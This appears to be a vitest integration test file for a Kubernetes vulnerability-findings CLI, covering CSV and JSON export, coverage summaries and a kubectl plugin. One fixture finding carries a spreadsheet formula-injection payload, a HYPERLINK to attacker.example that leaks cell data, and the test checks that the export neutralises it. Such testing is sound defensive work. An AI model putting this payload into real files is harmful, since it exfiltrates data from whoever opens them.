// `kube-inspector findings export`, `kube-inspector coverage` and the `kubectl inspector`
// plugin, as real processes against a real API server: CoveredResource objects created with
// kubectl (status in the object: the kind has no status subresource), Findings written into the store of a running
// controller and read through the findings API behind kube-apiserver.
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { parseCsv } from '../support/csv.ts';
import { OPENSSH_ATTRIBUTES, OPENSSH_STATUS, VISIBLE_HEADERS } from '../support/findings.ts';
import {
  type ProductEnvironment,
  type RunningController,
  startController,
  startProductEnvironment,
} from './product.ts';

const execFileAsync = promisify(execFile);
const main = new URL('../../src/cli/main.ts', import.meta.url).pathname;

let env: ProductEnvironment;
let controller: RunningController;

async function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await execFileAsync(
      process.execPath,
      ['--disable-warning=ExperimentalWarning', main, ...args],
      {
        env: { PATH: process.env.PATH, KUBECONFIG: env.plane.kubeconfig },
        maxBuffer: 16 * 1024 * 1024,
      },
    );
    return { code: 0, stdout, stderr };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

/** Creates a CoveredResource with kubectl, its status in the object (no status subresource). */
async function createCovered(object: object): Promise<void> {
  await env.kubectlWithInput(
    JSON.stringify({ apiVersion: 'kubeinspector.io/v1alpha1', ...object }),
    'create',
    '-f',
    '-',
  );
}

const admin = 'kube-inspector-system';
const finding = (
  namespace: string,
  name: string,
  labels: Record<string, string>,
  status: object,
  attributes?: Record<string, string>,
) => ({
  kind: 'Finding',
  metadata: { name, namespace, labels },
  ...(attributes ? { spec: { attributes } } : {}),
  status,
});

const findings = [
  finding(
    admin,
    'node-a.cve-2024-6387',
    { 'kubeinspector.io/status': 'ACTIVE', 'kubeinspector.io/severity': 'HIGH' },
    OPENSSH_STATUS,
    OPENSSH_ATTRIBUTES,
  ),
  finding(
    admin,
    'node-a.evil',
    { 'kubeinspector.io/status': 'ACTIVE' },
    {
      type: 'CONFIGURATION',
      title: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
      description: 'first line, with a comma\nsecond "quoted" line',
      severity: 'LOW',
      status: 'ACTIVE',
      resource: { type: 'WORKLOAD', id: '@SUM(1+1)' },
      firstObservedAt: '2026-03-01T00:00:00Z',
    },
  ),
  finding(
    admin,
    'node-b.closed',
    { 'kubeinspector.io/status': 'CLOSED' },
    { severity: 'MEDIUM', status: 'CLOSED', title: 'closed one' },
  ),
  finding(
    'shop',
    'run-weekly-1.cve-2024-3094',
    { 'kubeinspector.io/run': 'weekly-1', 'kubeinspector.io/status': 'ACTIVE' },
    {
      type: 'PACKAGE_VULNERABILITY',
      title: 'CVE-2024-3094 - xz-utils',
      severity: 'CRITICAL',
      status: 'ACTIVE',
      inspectorScore: 10,
      fixAvailable: 'YES',
      resource: { type: 'CONTAINER_IMAGE', id: 'registry.local/shop/web@sha256:aa' },
    },
  ),
  finding(
    'shop',
    'run-weekly-2.cve-2024-3094',
    { 'kubeinspector.io/run': 'weekly-2', 'kubeinspector.io/status': 'ACTIVE' },
    { severity: 'CRITICAL', status: 'ACTIVE', title: 'CVE-2024-3094 - xz-utils' },
  ),
];

const covered = (
  name: string,
  resourceType: string,
  statusCode: string,
  reason: string,
  labels: Record<string, string> = {},
) => ({
  kind: 'CoveredResource',
  metadata: { name, labels: { 'kubeinspector.io/resource-type': resourceType, ...labels } },
  status: { resourceType, resourceId: name, scanStatus: { statusCode, reason } },
});

const coveredResources = [
  covered('node-a', 'NODE', 'ACTIVE', 'SUCCESSFUL'),
  covered('node-b', 'NODE', 'ACTIVE', 'SUCCESSFUL'),
  covered('node-c', 'NODE', 'INACTIVE', 'STALE_INVENTORY'),
  covered('image-web', 'CONTAINER_IMAGE', 'ACTIVE', 'SUCCESSFUL'),
  covered('image-private', 'CONTAINER_IMAGE', 'INACTIVE', 'ACCESS_DENIED', {
    'kubeinspector.io/resource-namespace': 'shop',
  }),
  covered('workload-shop-web', 'WORKLOAD', 'INACTIVE', 'EXCLUDED_BY_TAG', {
    'kubeinspector.io/resource-namespace': 'shop',
  }),
  { kind: 'CoveredResource', metadata: { name: 'not-reconciled-yet' } },
];

beforeAll(async () => {
  env = await startProductEnvironment();
  await env.apply({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'shop' } });
  for (const o of coveredResources) await createCovered(o);
  // The findings API with no controller area running: nothing rewrites these findings.
  controller = await startController(env, { setups: [] });
  for (const f of findings) {
    await controller.store.create({ apiVersion: 'findings.kubeinspector.io/v1alpha1', ...f });
  }
}, 180_000);

afterAll(async () => {
  await controller?.stop();
  await env?.stop();
});

describe('kube-inspector findings export', { timeout: 60_000 }, () => {
  it('exports every finding of every namespace as CSV, page by page, sorted, formula-safe', async () => {
    const { code, stdout, stderr } = await cli(['findings', 'export', '-A', '--chunk-size', '2']);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    const [header, ...rows] = parseCsv(stdout);
    expect(header!.slice(0, 5)).toEqual([
      'namespace',
      'name',
      'creationTimestamp',
      'attributes',
      'type',
    ]);
    // Five findings over three pages of two.
    expect(rows.map((r) => `${r[0]}/${r[1]}`)).toEqual([
      `${admin}/node-a.cve-2024-6387`,
      `${admin}/node-a.evil`,
      `${admin}/node-b.closed`,
      'shop/run-weekly-1.cve-2024-3094',
      'shop/run-weekly-2.cve-2024-3094',
    ]);
    const at = (row: string[], column: string) => row[header!.indexOf(column)];
    const [openssh, evil] = rows as [string[], string[]];
    expect(at(openssh, 'firstObservedAt')).toBe(String(Date.parse('2026-03-01T12:00:00Z') / 1000));
    expect(at(openssh, 'lastObservedAt')).toBe(String(Date.parse('2026-03-02T00:00:01Z') / 1000));
    const created = (
      await env.kubectl(
        'get',
        'finding',
        '-n',
        admin,
        'node-a.cve-2024-6387',
        '-o',
        'jsonpath={.metadata.creationTimestamp}',
      )
    ).trim();
    expect(at(openssh, 'creationTimestamp')).toBe(String(Date.parse(created) / 1000));
    expect(at(openssh, 'attributes')).toBe('owner=platform; ticket=SEC-1');
    expect(at(openssh, 'packages.name')).toBe('openssh-server; openssh-client');
    expect(at(openssh, 'packages.fixedInVersion')).toBe('1:9.2p1-2+deb12u3; ');
    expect(at(openssh, 'inspectorScore')).toBe('8.1');
    expect(at(evil, 'title')).toBe(`'=HYPERLINK("http://attacker.example/?"&A1,"click")`);
    expect(at(evil, 'description')).toBe('first line, with a comma\nsecond "quoted" line');
    expect(at(evil, 'resource.id')).toBe("'@SUM(1+1)");
    expect(stdout).not.toMatch(/\d{4}-\d\d-\d\dT\d\d:/);
  });

  it('exports the findings of one run with the visible columns', async () => {
    const { code, stdout } = await cli([
      'findings',
      'export',
      '-n',
      'shop',
      '--run',
      'weekly-1',
      '--columns',
      'visible',
    ]);
    expect(code).toBe(0);
    const rows = parseCsv(stdout);
    expect(rows).toEqual([
      VISIBLE_HEADERS,
      [
        'shop',
        'run-weekly-1.cve-2024-3094',
        'CRITICAL',
        'PACKAGE_VULNERABILITY',
        'CVE-2024-3094 - xz-utils',
        'registry.local/shop/web@sha256:aa',
        'ACTIVE',
        '10',
        'YES',
        expect.stringMatching(/^\d{10}$/) as unknown as string,
      ],
    ]);
  });

  it('writes JSON objects to a file, selected by label and namespace', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ki-export-'));
    onTestFinished(() => rmSync(dir, { recursive: true, force: true }));
    const file = join(dir, 'findings.json');
    const { code, stderr } = await cli([
      'findings',
      'export',
      '-n',
      admin,
      '-l',
      'kubeinspector.io/status=ACTIVE',
      '--format',
      'json',
      '-o',
      file,
    ]);
    expect(code).toBe(0);
    expect(stderr).toContain(`wrote 2 findings to ${file}`);
    const objects = JSON.parse(readFileSync(file, 'utf8')) as {
      kind: string;
      metadata: { name: string; managedFields?: unknown; uid?: string };
      spec?: { attributes?: Record<string, string> };
      status: { firstObservedAt?: string };
    }[];
    expect(objects.map((o) => o.metadata.name)).toEqual(['node-a.cve-2024-6387', 'node-a.evil']);
    expect(objects[0]!.kind).toBe('Finding');
    expect(objects[0]!.metadata.uid).toMatch(/^[0-9a-f-]{36}$/);
    expect(objects[0]!.metadata.managedFields).toBeUndefined();
    expect(objects[0]!.spec?.attributes).toEqual({ ticket: 'SEC-1', owner: 'platform' });
    expect(objects[0]!.status.firstObservedAt).toBe('2026-03-01T12:00:00Z');
  });

  it('reports a request the API server refuses (a bad selector) with exit code 1', async () => {
    const { code, stderr } = await cli(['findings', 'export', '-l', 'bad selector!!']);
    expect(code).toBe(1);
    expect(stderr).toMatch(
      /kube-inspector findings: GET \/apis\/findings\.kubeinspector\.io\/v1alpha1\/findings: 400/,
    );
  });
});

describe('kube-inspector coverage', { timeout: 60_000 }, () => {
  it('summarises every resource type: All, Scanning, Not scanning, and counts by reason', async () => {
    const { code, stdout } = await cli(['coverage', '-o', 'json']);
    expect(code).toBe(0);
    const summary = JSON.parse(stdout) as {
      resourceTypes: {
        resourceType: string;
        all: number;
        scanning: number;
        notScanning: number;
        reasons: object[];
      }[];
      total: object;
    };
    expect(
      summary.resourceTypes.map((t) => [t.resourceType, t.all, t.scanning, t.notScanning]),
    ).toEqual([
      ['NODE', 3, 2, 1],
      ['CONTAINER_IMAGE', 2, 1, 1],
      ['IMAGE_REPOSITORY', 0, 0, 0],
      ['WORKLOAD', 1, 0, 1],
      ['NAMESPACE', 0, 0, 0],
    ]);
    expect(summary.resourceTypes[0]!.reasons).toEqual([
      { statusCode: 'ACTIVE', reason: 'SUCCESSFUL', count: 2 },
      { statusCode: 'INACTIVE', reason: 'STALE_INVENTORY', count: 1 },
    ]);
    expect(summary.total).toEqual({ all: 6, scanning: 3, notScanning: 3 });
  });

  it('prints the tables, filtered by type and by label', async () => {
    const table = await cli(['coverage']);
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/^NODE\s+3\s+2\s+1$/m);
    expect(table.stdout).toMatch(/^TOTAL\s+6\s+3\s+3$/m);
    expect(table.stdout).toMatch(/^ {2}INACTIVE\s+ACCESS_DENIED\s+1$/m);
    expect(table.stdout).toContain('WORKLOAD: 1 resource, 0 scanning, 1 not scanning');

    const nodes = await cli(['coverage', '--type', 'node']);
    expect(nodes.stdout).toMatch(/^NODE\s+3\s+2\s+1$/m);
    expect(nodes.stdout).not.toContain('CONTAINER_IMAGE');

    const shop = await cli([
      'coverage',
      '-o',
      'json',
      '-l',
      'kubeinspector.io/resource-namespace=shop',
    ]);
    const s = JSON.parse(shop.stdout) as { total: object };
    expect(s.total).toEqual({ all: 2, scanning: 0, notScanning: 2 });
  });
});

describe('the kubectl plugin', { timeout: 60_000 }, () => {
  it('runs as `kubectl inspector` when installed as kubectl-inspector on the PATH', async () => {
    const scratch = mkdtempSync(join(tmpdir(), 'ki-plugin-'));
    onTestFinished(() => rmSync(scratch, { recursive: true, force: true }));
    const bin = join(scratch, 'bin');
    mkdirSync(bin);
    symlinkSync(main, join(bin, 'kubectl-inspector'));
    const pluginEnv = {
      // The plugin's `#!/usr/bin/env node` finds this Node first.
      PATH: [bin, dirname(process.execPath), '/usr/bin', '/bin'].join(':'),
      KUBECONFIG: env.plane.kubeconfig,
      HOME: mkdtempSync(join(scratch, 'home-')),
    };
    const kubectl = env.plane.binaries.kubectl;

    const plugins = await execFileAsync(kubectl, ['plugin', 'list'], { env: pluginEnv });
    expect(plugins.stdout).toContain(join(bin, 'kubectl-inspector'));

    const version = await execFileAsync(kubectl, ['inspector', 'version'], { env: pluginEnv });
    expect(version.stdout).toMatch(/^kube-inspector \d+\.\d+\.\d+ \(node /);

    const help = await execFileAsync(kubectl, ['inspector', '--help'], { env: pluginEnv });
    expect(help.stdout).toMatch(/^Usage: kubectl inspector <command>/m);

    const coverage = await execFileAsync(kubectl, ['inspector', 'coverage', '--type', 'NODE'], {
      env: pluginEnv,
    });
    expect(coverage.stdout).toMatch(/^NODE\s+3\s+2\s+1$/m);
  });
});
